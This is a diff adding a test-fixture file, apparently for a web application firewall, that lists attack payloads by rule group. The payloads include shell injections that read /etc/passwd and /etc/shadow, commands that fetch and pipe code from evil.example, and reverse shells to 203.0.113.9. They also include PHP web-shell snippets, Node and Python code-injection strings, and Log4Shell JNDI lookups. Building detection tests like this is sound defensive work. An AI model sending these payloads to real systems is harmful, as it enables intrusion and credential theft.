@@ -1,0 +1,47 @@
+import { each, inAgent, inCookie, inField, inFileName, inForm, inHeader, inJson, inList, inName, inPatch, inQuery, inReferer, type Sent } from "../request";
+
+const log4shell = "${jndi:ldap://evil.example/a}";
+
+/** Programs where data belongs: shells (932), PHP (933), Node (934), Java (944). */
+export const code: Sent[] = [
+  ...each("932", inQuery, [
+    "; cat /etc/passwd", "$(whoami)", "&& wget http://evil.example/x -O /tmp/x", "; nc -e /bin/sh 203.0.113.9 4444",
+    "|| ping -c 10 127.0.0.1", "; curl http://evil.example/x|sh", "$(cat<<<a)", "| powershell -enc SQBFAFgA", "& dir C:\\",
+    "; python3 -c 'import os;os.system(\"id\")'", ";ls -la", "a;/bin/bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", "() { :; }; /bin/bash -c id",
+    "$IFS;cat$IFS/etc/passwd", "/bin/cat /etc/passwd", "<(cat /etc/passwd)", "powershell.exe -nop -w hidden -c whoami",
+  ]),
+  ...each("932", inJson, ["; cat /etc/passwd", "$(curl evil.example)", "`wget evil.example`", "| nc 203.0.113.9 1", "&& rm -rf /tmp/x", "; sleep 10", "|/usr/bin/id"]),
+  ...each("932", inList, ["; /bin/sh -c id", "$(id)"]),
+  ...each("932", inForm, ["; uname -a", "|bash -i"]),
+  ...each("932", inField, ["; cat /etc/shadow"]),
+  ...each("932", inAgent, ["() { :;}; /bin/bash -c 'id'", "() { ignored; }; echo Content-Type: text/html; echo; /usr/bin/id"]),
+  ...each("932", inCookie, ["$(id)"]),
+  ...each("932", inName, ["$(whoami)"]),
+  ...each("932", inFileName, [".htaccess"]),
+
+  ...each("933", inQuery, [
+    "<?php system($_GET['c']); ?>", "<?= `id` ?>", "php://filter/convert.base64-encode/resource=index", "phar:///tmp/a.phar", "data://text/plain;base64,PD9waHA=",
+    "$_SERVER['HTTP_HOST']", "base64_decode(\"aWQ=\")", "eval($_POST[1])", "auto_prepend_file=php://input", "O:8:\"stdClass\":1:{s:1:\"a\";i:1;}",
+    "allow_url_include = 1", "call_user_func('system','id')", "chr(112).chr(104)", "shell_exec('id')",
+  ]),
+  ...each("933", inJson, ["<?php phpinfo();", "proc_open('id')", "expect://id"]),
+  ...each("933", inFileName, ["shell.php", "a.php5", "image.phtml", "x.php.png.php"]),
+  ...each("933", inForm, ["<?php echo 1;?>"]),
+
+  ...each("934", inJson, [
+    "_$$ND_FUNC$$_function(){require('child_process').exec('id')}()", "require('child_process').execSync('id')", "process.env.constructor(1)",
+    "this.constructor.constructor('return process')()", "new Function('return process.mainModule')",
+  ]),
+  ...each("934", inQuery, ["_$$ND_FUNC$$_function (){}()", "process.mainModule.require('child_process')", "child_process.spawn('id')"]),
+
+  ...each("934", inQuery, ["{{''.__class__.__mro__[1].__subclasses__()}}", "__import__('os').popen('id')"]),
+  ...each("934", inPatch, ["{{request.application.__globals__.__builtins__}}", "!!python/object/apply:os.system ['id']", "os.system('id')"]),
+
+  ...each("944", inQuery, [log4shell, "java.lang.Runtime.getRuntime().exec('id')", "class.module.classLoader.resources.context.parent.pipeline.first.pattern=1", "org.apache.struts2.ServletActionContext", "java.lang.ProcessBuilder.evil.clonetransformer"]),
+  ...each("944", inAgent, [log4shell, "${${lower:j}ndi:rmi://evil.example/x}"]),
+  ...each("944", inHeader("X-Api-Version"), [log4shell]),
+  ...each("944", inReferer, [log4shell]),
+  ...each("944", inJson, [log4shell, "java.lang.Runtime", "com.opensymphony.xwork2.Runtime"]),
+  ...each("944", inPatch, ["java.lang.ProcessBuilder"]),
+  ...each("944", inForm, [log4shell]),
+];
